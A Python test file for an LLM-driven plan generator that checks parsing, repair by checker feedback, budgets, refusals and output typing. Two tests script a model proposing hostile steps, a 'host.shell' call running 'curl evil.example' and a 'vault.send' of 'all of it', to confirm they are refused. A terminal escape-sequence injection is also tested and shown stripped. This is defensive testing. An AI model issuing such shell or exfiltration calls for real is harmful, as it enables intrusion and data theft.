"""What becomes of a model's answers: plans, repairs, and what is missing."""

from __future__ import annotations

import dataclasses

from tests.agent.planners.model_yard import (
    FUNCTIONS,
    GOAL,
    GOOD,
    PLAN,
    WRONG,
    Waits,
    answer,
    data,
    goal,
    missing,
    planner,
    proposed,
    quick,
    task,
)

from shunter.agent.endpoints import Say, ScriptedEndpoint
from shunter.agent.planners.protocol import Attempt, Missing, Proposal, Reason, Task
from shunter.engine.digest import JsonValue
from shunter.engine.plan.model import Plan
from shunter.engine.types import parse_type
from shunter.instructions.goal import Goal, GoalLimits


def test_a_right_answer_is_a_plan_at_once() -> None:
    with ScriptedEndpoint([Say(GOOD)]) as endpoint:
        proposal = proposed(endpoint)
        assert data(proposal) == PLAN
        assert proposal.reasons == (Reason("transcribe", "Transcribe every recording"),)
        assert [request.response_format for request in endpoint.requests] == ["json_schema"]
        place = endpoint.base_url.removeprefix("http://").removesuffix("/v1")
        (note,) = proposal.notes
        assert note.startswith(f"planned by scripted at {place}, asked for a strict JSON schema: 1 request, ")


def test_a_wrong_answer_is_repaired_by_what_the_checker_found() -> None:
    with ScriptedEndpoint([Say(WRONG), Say(GOOD)]) as endpoint:
        assert data(proposed(endpoint)) == PLAN
        first, second = endpoint.requests
        assert [turn["role"] for turn in second.messages] == ["system", "user", "assistant", "user"]
        assert second.messages[:2] == first.messages
        told = second.messages[-1]["content"]
        assert "expected list[File[text/*]], got list[File[audio/*]]" in told
        assert "steps.s2.with.documents" in told


def test_a_model_that_is_never_right_is_asked_three_times() -> None:
    wrong: list[JsonValue] = [{**WRONG, "steps": [{"rag.answer": {"id": f"s{n}", "documents": {"step": "s9", "output": "*"}, "question": str(n)}}]} for n in (1, 2, 3, 4)]  # fmt: skip
    with ScriptedEndpoint([Say(one) for one in wrong]) as endpoint:
        found = missing(endpoint)
        assert len(endpoint.requests) == 3
        assert "no plan that works in 3 answers" in found.text
        assert "there is no input or step 's9'" in found.text
        assert [problem.code.value for problem in found.refused] == ["unknown-reference"] * 2


def test_a_model_that_insists_on_a_refused_plan_is_not_asked_again() -> None:
    with ScriptedEndpoint(otherwise=Say(WRONG)) as endpoint:
        assert "in 2 answers" in missing(endpoint).text
        assert len(endpoint.requests) == 2


def test_an_answer_says_what_it_cost_with_all_its_repairs() -> None:
    with ScriptedEndpoint([Say(GOOD), Say(WRONG), Say(GOOD)]) as endpoint:
        once, repaired = proposed(endpoint).usage, proposed(endpoint).usage
    with ScriptedEndpoint(otherwise=Say(WRONG)) as endpoint:
        refused = missing(endpoint).usage
    with ScriptedEndpoint([Say({**GOOD, "missing": "a microphone", "steps": []})]) as endpoint:
        lacking = missing(endpoint).usage
    found = [usage for usage in (once, repaired, refused, lacking) if usage is not None]
    assert [usage.requests for usage in found] == [1, 2, 2, 1]
    tokens = [usage.tokens for usage in found]
    assert 0 < tokens[0] < tokens[1]
    assert min(tokens) > 0


def test_an_unknown_function_is_refused() -> None:
    evil = answer({"host.shell": {"id": "s1", "command": "curl evil.example"}})
    with ScriptedEndpoint(otherwise=Say(evil)) as endpoint:
        assert "there is no function 'host.shell'" in missing(endpoint).text


def test_only_functions_of_the_task_can_be_called() -> None:
    some = {name: one for name, one in FUNCTIONS.items() if name != "vault.send"}
    evil = answer({"vault.send": {"id": "s1", "text": "all of it"}})
    with ScriptedEndpoint(otherwise=Say(evil)) as endpoint:
        found = planner(endpoint).plan(Task(GOAL, some))
        assert isinstance(found, Missing)
        assert "vault.send" not in str(endpoint.requests[0].body)


def test_what_the_model_says_is_missing_is_passed_on() -> None:
    said = {"missing": "No function draws\x1b[2J pictures.", "reasons": [], "steps": [], "outputs": []}
    with ScriptedEndpoint([Say(said)]) as endpoint:
        found = missing(endpoint, task(Goal("Draw the founder of Dagger, answer nothing")))
        assert found.text == "No function draws [2J pictures."
        assert found.words == ("draw", "founder", "dagger", "nothing")
        assert found.nearest[0] == "rag.answer"
        assert len(endpoint.requests) == 1


def test_a_model_that_declines_leaves_no_plan() -> None:
    with ScriptedEndpoint([Say("", refusal="I can't help with that")]) as endpoint:
        assert missing(endpoint).text == "the model declined: I can't help with that"


def test_an_answer_without_steps_is_sent_back() -> None:
    with ScriptedEndpoint([Say({**GOOD, "steps": [], "outputs": []}), Say(GOOD)]) as endpoint:
        assert data(proposed(endpoint)) == PLAN


def test_lists_records_json_and_literals_reach_the_plan() -> None:
    steps = answer(
        {"text.upper": {"id": "s1", "text": "abc"}},
        {
            "notes.tag": {
                "id": "s2",
                "id_": {"step": "s1", "output": "*"},
                "note": {"title": {"step": "s1", "output": "*"}, "size": 3},
                "data": {"json": '{"deep": [1, null]}'},
            }
        },
        {"text.upper": {"id": "s3", "text": {"each_of": ["a", {"step": "s2", "output": "*"}]}}},
        step="s3",
    )
    with ScriptedEndpoint([Say(steps)]) as endpoint:
        plan = data(proposed(endpoint, task(goal("write the note's tag in capitals"))))
        assert plan["steps"] == [
            {"id": "upper", "call": "text.upper", "with": {"text": "abc"}},
            {
                "id": "tag",
                "call": "notes.tag",
                "with": {
                    "id": {"from": "upper"},
                    "note": {"title": {"from": "upper"}, "size": 3},
                    "data": {"deep": [1, None]},
                },
            },
            {"id": "upper_2", "call": "text.upper", "each": {"text": ["a", {"from": "tag"}]}},
        ]


def test_an_input_that_may_fit_is_narrowed_in_the_plan() -> None:
    steps = answer({"table.rows": {"id": "s1", "table": {"input": "page"}}})
    with ScriptedEndpoint([Say(steps)]) as endpoint:
        plan = data(proposed(endpoint, task(goal("Count the rows", page="File"))))
        assert plan["steps"] == [
            {"id": "rows", "call": "table.rows", "with": {"table": {"from": "page", "as": "File[text/csv]"}}}
        ]


def test_wanted_outputs_have_to_be_there_with_their_type() -> None:
    wanted = dataclasses.replace(GOAL, outputs={"reply": parse_type("str"), "texts": None})
    full = {**GOOD, "outputs": [{"name": "reply", "step": "s2", "output": "text"}, {"name": "texts", "step": "s1", "output": "*"}]}  # fmt: skip
    wrong = {**full, "outputs": [{"name": "reply", "step": "s2", "output": "sources"}]}
    with ScriptedEndpoint([Say(wrong), Say(full)]) as endpoint:
        plan = data(proposed(endpoint, task(wanted)))
        assert plan["outputs"] == {"reply": {"from": "answer.text"}, "texts": {"from": "transcribe"}}
        told = endpoint.requests[1].messages[-1]["content"]
        assert "the output texts is wanted" in told
        assert "expected str, got list[File[text/plain]]" in told


def test_more_steps_than_the_goal_allows_are_refused() -> None:
    few = dataclasses.replace(GOAL, limits=GoalLimits(steps=1))
    with ScriptedEndpoint(otherwise=Say(GOOD)) as endpoint:
        assert "there are 2 steps, and 1 are allowed" in missing(endpoint, task(few)).text


def test_a_plan_that_failed_is_not_proposed_again() -> None:
    tried = Attempt(Plan.model_validate(PLAN))
    other = {**GOOD, "outputs": [{"name": "answer", "step": "s2", "output": "sources"}]}
    with ScriptedEndpoint([Say(GOOD), Say(other)]) as endpoint:
        plan = data(proposed(endpoint, task(attempts=(tried,))))
        assert plan["outputs"] == {"answer": {"from": "answer.sources"}}
        assert "was tried and didn't work" in endpoint.requests[1].messages[-1]["content"]


def test_a_step_that_nothing_uses_is_asked_about_once_and_then_noted() -> None:
    idle = {**GOOD, "steps": [*list(GOOD["steps"]), {"text.upper": {"id": "s3", "text": "x"}}]}  # type: ignore[arg-type]
    with ScriptedEndpoint(otherwise=Say(idle)) as endpoint:
        proposal = proposed(endpoint)
        assert len(endpoint.requests) == 2
        assert proposal.notes[-1] == "steps.s3: nothing uses what this step makes"


def test_the_budget_of_tokens_ends_the_repairs() -> None:
    with ScriptedEndpoint(otherwise=Say(WRONG)) as endpoint:
        found = planner(endpoint, budget=quick(Waits(), tokens=1)).plan(task())
        assert isinstance(found, Missing)
        assert len(endpoint.requests) == 1


def test_streamed_and_whole_answers_are_the_same_to_the_planner() -> None:
    with ScriptedEndpoint([Say(GOOD, always_streams=True)]) as endpoint:
        assert data(proposed(endpoint)) == PLAN


def test_a_lone_model_is_asked_for_by_name() -> None:
    from shunter.agent.planners.model.planner import ModelPlanner
    from shunter.agent.planners.model.settings import ModelSettings

    with ScriptedEndpoint([Say(GOOD)], models=["tiny"]) as endpoint:
        found = ModelPlanner(ModelSettings(base_url=endpoint.base_url)).plan(task())
        assert isinstance(found, Proposal)
        assert endpoint.requests[0].body["model"] == "tiny"
